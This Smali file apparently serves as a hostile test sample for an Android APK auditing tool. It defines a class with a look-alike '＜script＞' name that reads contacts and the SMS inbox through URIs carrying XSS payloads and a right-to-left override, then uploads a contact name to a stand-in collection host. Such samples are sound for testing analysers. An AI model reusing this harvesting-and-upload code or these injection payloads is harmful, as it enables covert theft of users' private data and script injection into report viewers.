.class public Lorg/apkaudit/sample/hostile/＜script＞Harvest;
.super Ljava/lang/Object;
.source "Harvest.java"

# A class whose simple name is "＜script＞Harvest" (look-alike brackets U+FF1C/U+FF1E, legal in DEX). It reads
# the address book and the SMS inbox through content URIs that carry HTML, script and a right-to-left override,
# and writes the first contact name to a connection opened on a javascript: URL.


# direct methods
.method public constructor <init>()V
    .registers 1

    invoke-direct {p0}, Ljava/lang/Object;-><init>()V

    return-void
.end method

.method public static harvest(Landroid/content/Context;)V
    .registers 8

    invoke-virtual {p0}, Landroid/content/Context;->getContentResolver()Landroid/content/ContentResolver;

    move-result-object v0

    const-string v1, "content://com.android.contacts/contacts?<script>alert(6)</script>\"><img src=x onerror=alert(7)>"

    invoke-static {v1}, Landroid/net/Uri;->parse(Ljava/lang/String;)Landroid/net/Uri;

    move-result-object v1

    const/4 v2, 0x0

    const/4 v3, 0x0

    const/4 v4, 0x0

    const/4 v5, 0x0

    invoke-virtual/range {v0 .. v5}, Landroid/content/ContentResolver;->query(Landroid/net/Uri;[Ljava/lang/String;Ljava/lang/String;[Ljava/lang/String;Ljava/lang/String;)Landroid/database/Cursor;

    move-result-object v6

    if-eqz v6, :done

    invoke-interface {v6}, Landroid/database/Cursor;->moveToFirst()Z

    move-result v1

    if-eqz v1, :sms

    const/4 v1, 0x0

    invoke-interface {v6, v1}, Landroid/database/Cursor;->getString(I)Ljava/lang/String;

    move-result-object v1

    invoke-static {v1}, Lorg/apkaudit/sample/hostile/＜script＞Harvest;->upload(Ljava/lang/String;)V

    :sms
    invoke-interface {v6}, Landroid/database/Cursor;->close()V

    const-string v1, "content://sms/inbox#\u202ejavascript:alert(8)"

    invoke-static {v1}, Landroid/net/Uri;->parse(Ljava/lang/String;)Landroid/net/Uri;

    move-result-object v1

    invoke-virtual/range {v0 .. v5}, Landroid/content/ContentResolver;->query(Landroid/net/Uri;[Ljava/lang/String;Ljava/lang/String;[Ljava/lang/String;Ljava/lang/String;)Landroid/database/Cursor;

    move-result-object v6

    if-eqz v6, :done

    invoke-interface {v6}, Landroid/database/Cursor;->close()V

    :done
    return-void
.end method

.method private static upload(Ljava/lang/String;)V
    .registers 3

    new-instance v0, Ljava/net/URL;

    const-string v1, "javascript:alert(document.domain)//https://collect.hostile.example/upload"

    invoke-direct {v0, v1}, Ljava/net/URL;-><init>(Ljava/lang/String;)V

    invoke-virtual {v0}, Ljava/net/URL;->openConnection()Ljava/net/URLConnection;

    move-result-object v0

    check-cast v0, Ljava/net/HttpURLConnection;

    invoke-virtual {v0}, Ljava/net/HttpURLConnection;->getOutputStream()Ljava/io/OutputStream;

    move-result-object v0

    invoke-virtual {p0}, Ljava/lang/String;->getBytes()[B

    move-result-object v1

    invoke-virtual {v0, v1}, Ljava/io/OutputStream;->write([B)V

    return-void
.end method
